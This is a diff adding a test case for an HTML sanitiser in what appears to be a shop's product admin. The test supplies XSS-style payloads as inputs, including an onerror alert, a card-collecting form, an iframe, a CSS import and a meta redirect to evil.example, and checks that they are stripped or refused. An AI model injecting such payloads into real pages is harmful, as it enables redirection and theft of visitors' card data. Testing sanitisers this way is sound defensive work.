@@ -175,6 +175,25 @@ describe('custom fields', () => {
     expect(errors['custom_fields.3.body']).toEqual([customFieldMessages.htmlBodyRequired]);
     expect(errors['custom_fields.4.type']).toBeDefined();
   });
+
+  it('cleans the description and HTML fields by the one HTML policy; refuses an HTML field left empty and changes nothing (issue 35)', async () => {
+    const p = await create({
+      description: '<p>Clean water<img src="/media/1/w.jpg" srcset="https://evil.example/w.jpg 2x" onerror="alert(1)"></p><form action="https://evil.example/"><input name="card"></form>',
+      custom_fields: [field({ type: 'html', name: 'Notice', body: '<p style="color: red; position: fixed">Thanks</p><iframe src="https://evil.example/"></iframe><style>@import url(https://evil.example/x.css)</style>' })],
+    });
+    expect(p.description).toBe('<p>Clean water<img src="/media/1/w.jpg"></p>');
+    const [notice] = p.custom_fields as { body: string }[];
+    expect(notice?.body).toBe('<p style="color: red">Thanks</p>');
+    const refused = await admin.post(`/jpanel/products/${p.id}`, {
+      ...newProduct({ code: p.code, variants: p.variants }),
+      description: '<p>Changed</p>',
+      custom_fields: [{ ...notice, body: '<script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example/">' }],
+    });
+    expect(refused.statusCode).toBe(422);
+    expect(refused.json().errors).toEqual({ 'custom_fields.0.body': [customFieldMessages.htmlBodyEmpty] });
+    const [stored] = await t.database.db.select().from(products).where(eq(products.id, p.id));
+    expect(stored?.description).toBe('<p>Clean water<img src="/media/1/w.jpg"></p>');
+  });
 });
 
 describe('variants', () => {
